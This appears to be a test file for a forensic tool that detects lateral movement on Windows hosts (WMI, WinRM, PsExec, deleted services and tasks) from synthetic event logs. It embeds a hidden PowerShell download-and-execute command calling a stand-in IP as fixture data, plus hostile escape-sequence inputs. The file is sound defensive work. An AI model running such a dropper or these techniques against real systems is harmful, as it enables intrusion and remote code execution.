/** Ways into Windows hosts from a neighbour that left no entry: WMI, WinRM, PsExec, services and tasks that were deleted again. */
import { describe, expect, test } from 'bun:test';
import { given } from '../../src/formats/evtx/binxml.fixture.ts';
import type { GivenEvent } from '../../src/formats/evtx/evtx.fixture.ts';
import { at, auditing, logon, look, mined, type Told, usual, ways } from './windows-logs.fixture.ts';

const dropper = 'powershell -nop -w hidden -c "iex (irm http://192.0.2.7/a.ps1)"';
const neighbour = '10.0.0.77';
const came = (time: string, account = 'Administrator', from = neighbour): GivenEvent =>
  logon(4624, at(time), account, from, 3);

const started = (time: string, by: string, command: string, account = 'Administrator'): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId: 4688,
  us: at(time),
  data: {
    SubjectUserName: 'WEB-07$',
    TargetUserName: account,
    NewProcessId: given.hex64(4_711n),
    NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
    ProcessId: given.hex64(1_234n),
    ParentProcessName: by,
    CommandLine: command,
  },
});
const wmi = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe';
const winrm = 'C:\\Windows\\System32\\wsmprovhost.exe';
const installed = (time: string, name: string, image: string): GivenEvent => ({
  provider: 'Service Control Manager',
  channel: 'System',
  computer: 'WEB-07',
  eventId: 7045,
  us: at(time),
  data: { ServiceName: name, ImagePath: image, AccountName: 'LocalSystem' },
});
const shared = (time: string, pipe = 'svcctl', from = neighbour): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId: 5145,
  us: at(time),
  data: {
    SubjectUserName: 'Administrator',
    IpAddress: from,
    ShareName: '\\\\*\\IPC$',
    RelativeTargetName: pipe,
  },
});
const shellOpened = (time: string): GivenEvent => ({
  provider: 'Microsoft-Windows-WinRM',
  channel: 'Microsoft-Windows-WinRM/Operational',
  computer: 'WEB-07',
  eventId: 91,
  us: at(time),
  data: { resourceUri: 'http://schemas.microsoft.com/powershell/Microsoft.PowerShell', shellId: 'x' },
});
const registered = (eventId: 4698 | 4699, time: string, command: string): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId,
  us: at(time),
  data: {
    SubjectUserName: 'Administrator',
    TaskName: '\\aBcDeFgH',
    TaskContent: `<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/C ${command}</Arguments></Exec></Actions></Task>`,
  },
});

const spec = mined('2026-03-01T03:12:00Z');
const told = (security: readonly GivenEvent[], logs: Readonly<Record<string, readonly GivenEvent[]>> = {}) =>
  look(spec, { Security: [...usual, ...security], ...logs });
const first = ({ result }: Told) => result.entry?.[0];

describe('from a neighbour, and no entry is left', () => {
  test('a process of WMI', async () => {
    const found = await told([
      came('2026-03-01T03:10:00Z'),
      started('2026-03-01T03:10:02Z', wmi, `cmd.exe /Q /c ${dropper} 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1`),
    ]);
    expect(ways(found)).toEqual([`confirmed lateral Administrator ${neighbour}`]);
    expect(first(found)).toMatchObject({ service: 'wmi', firstSuccess: '2026-03-01T03:10:00Z' });
    expect(first(found)?.chain.map(({ step }) => step)).toContain('command');
  });

  test('as Windows 7 writes it: no name of the parent, and the machine for an account', async () => {
    const made = (time: string, pid: bigint, program: string, parent: bigint): GivenEvent => ({
      provider: auditing,
      channel: 'Security',
      computer: 'WEB-07',
      eventId: 4688,
      us: at(time),
      data: {
        SubjectUserName: 'WEB-07$',
        NewProcessId: given.hex64(pid),
        NewProcessName: program,
        ProcessId: given.hex64(parent),
      },
    });
    const found = await told([
      came('2026-03-01T03:10:00Z'),
      made('2026-03-01T03:10:01Z', 2_792n, wmi, 584n),
      made('2026-03-01T03:10:02Z', 1_060n, 'C:\\Windows\\System32\\calc.exe', 2_792n),
    ]);
    expect(ways(found)).toEqual([`probable lateral Administrator ${neighbour}`]);
  });

  test('WinRM with its shell and what was started in it', async () => {
    const found = await told(
      [came('2026-03-01T03:10:00Z'), started('2026-03-01T03:10:03Z', winrm, `cmd /c ${dropper}`)],
      { 'Microsoft-Windows-WinRM%4Operational': [shellOpened('2026-03-01T03:10:01Z')] },
    );
    expect(ways(found)).toEqual([`confirmed lateral Administrator ${neighbour}`]);
    expect(first(found)?.service).toBe('winrm');
  });

  test('a shell of WinRM alone, before the trace', async () => {
    const found = await told([came('2026-03-01T03:10:00Z')], {
      'Microsoft-Windows-WinRM%4Operational': [shellOpened('2026-03-01T03:10:01Z')],
    });
    expect(ways(found)).toEqual([`probable lateral Administrator ${neighbour}`]);
    expect(first(found)?.missing).toEqual(['ordinary-command']);
  });

  test('PsExec: its service and what it started', async () => {
    const found = await told(
      [
        came('2026-03-01T03:10:00Z'),
        shared('2026-03-01T03:10:01Z'),
        started('2026-03-01T03:10:04Z', 'C:\\Windows\\PSEXESVC.exe', `cmd /c ${dropper}`, 'SYSTEM'),
      ],
      { System: [installed('2026-03-01T03:10:02Z', 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe')] },
    );
    expect(ways(found)).toEqual([`confirmed lateral Administrator ${neighbour}`]);
  });

  test('a service with a dropper for a command that is gone again', async () => {
    const found = await told([came('2026-03-01T03:10:00Z'), shared('2026-03-01T03:10:01Z')], {
      System: [installed('2026-03-01T03:10:02Z', 'kXqTzW', `%COMSPEC% /Q /c ${dropper}`)],
    });
    expect(ways(found)).toEqual([`confirmed lateral Administrator ${neighbour}`]);
  });

  test('a task over the network that was deleted a second later', async () => {
    const found = await told([
      came('2026-03-01T03:10:00Z'),
      shared('2026-03-01T03:10:01Z', 'atsvc'),
      registered(4698, '2026-03-01T03:10:02Z', dropper),
      registered(4699, '2026-03-01T03:10:04Z', ''),
    ]);
    expect(ways(found)).toEqual([`confirmed lateral Administrator ${neighbour}`]);
  });

  test('a consumer of WMI that was made from afar', async () => {
    const found = await told([came('2026-03-01T03:10:00Z')], {
      'Microsoft-Windows-WMI-Activity%4Operational': [
        {
          provider: 'Microsoft-Windows-WMI-Activity',
          channel: 'x',
          computer: 'WEB-07',
          eventId: 5861,
          us: at('2026-03-01T03:10:02Z'),
          userData: 'Operation_ESStoConsumerBinding',
          data: {
            User: 'WEB-07\\Administrator',
            Consumer: 'CommandLineEventConsumer="x"',
            PossibleCause: `instance of CommandLineEventConsumer { CommandLineTemplate = "${dropper.replaceAll('"', '\\"')}"; };`,
          },
        },
      ],
    });
    expect(ways(found)).toEqual([`confirmed lateral Administrator ${neighbour}`]);
    expect(first(found)?.service).toBe('wmi');
  });
});

describe('no way in', () => {
  const days = ['2026-02-20', '2026-02-24', '2026-02-27', '2026-03-01'];

  test.each<[string, readonly GivenEvent[]]>([
    [
      'an inventory that asks by WMI each day',
      days.flatMap((date) => [
        came(`${date}T03:10:00Z`, 'svc-sccm', '10.0.0.20'),
        started(`${date}T03:10:02Z`, wmi, 'cmd /c wmic product get name', 'svc-sccm'),
      ]),
    ],
    [
      'a deployment by WinRM that came often, and this time changes what it runs',
      days.flatMap((date, index) => [
        came(`${date}T03:10:00Z`, 'ansible', '10.0.0.21'),
        started(`${date}T03:10:02Z`, winrm, `powershell -File C:\\ansible\\${'abcd'[index]}.ps1`, 'ansible'),
      ]),
    ],
    [
      'a process of WMI long before',
      [came('2026-03-01T00:10:00Z', 'ops'), started('2026-03-01T00:10:02Z', wmi, 'cmd /c whoami', 'ops')],
    ],
    ['a process of WMI and nobody who came', [started('2026-03-01T03:10:02Z', wmi, `cmd /c ${dropper}`)]],
    [
      'a process of WMI as another account than that of who came',
      [
        came('2026-03-01T03:10:00Z', 'backup'),
        started('2026-03-01T03:10:02Z', wmi, `cmd /c ${dropper}`, 'x'),
      ],
    ],
  ])('%s', async (_, events) => {
    expect(ways(await told(events))).toEqual([]);
  });

  test('administrators with PsExec and WinRM on a host where nothing was left: clean', async () => {
    const { result } = await look(
      {},
      {
        Security: [
          ...usual,
          came('2026-03-01T03:10:00Z'),
          started('2026-03-01T03:10:04Z', 'C:\\Windows\\PSEXESVC.exe', 'cmd', 'SYSTEM'),
        ],
        System: [installed('2026-03-01T03:10:02Z', 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe')],
        'Microsoft-Windows-WinRM%4Operational': [shellOpened('2026-03-01T03:10:01Z')],
      },
    );
    expect(result.verdict).toBe('clean');
    expect(result.entry ?? []).toEqual([]);
  });
});

test('hostile: floods of services, tasks and processes with names that say anything', async () => {
  const found = await told(
    [
      came('2026-03-01T03:10:00Z', '\x1b[2J'),
      ...Array.from({ length: 3_000 }, (_, index) =>
        registered(4698, '2026-03-01T03:10:01Z', `\x1b[2J${'(('.repeat(100)}${index}`),
      ),
      ...Array.from({ length: 2_500 }, (_, index) =>
        started('2026-03-01T03:10:02Z', wmi, `cmd /c ${'x'.repeat(index % 300)}\x00\u202e`, ''),
      ),
    ],
    {
      'Microsoft-Windows-WMI-Activity%4Operational': [
        {
          provider: 'Microsoft-Windows-WMI-Activity',
          channel: 'x',
          computer: 'WEB-07',
          eventId: 5861,
          us: at('2026-03-01T03:10:02Z'),
          userData: 'x',
          data: { PossibleCause: `CommandLineTemplate = "${'\\'.repeat(5_000)}` },
        },
      ],
    },
  );
  const text = JSON.stringify(found.result);
  expect(text).not.toContain('\\u001b');
  expect(text).not.toContain('\u202e');
  for (const { chain } of found.result.entry ?? []) expect(chain.length).toBeLessThanOrEqual(40);
});
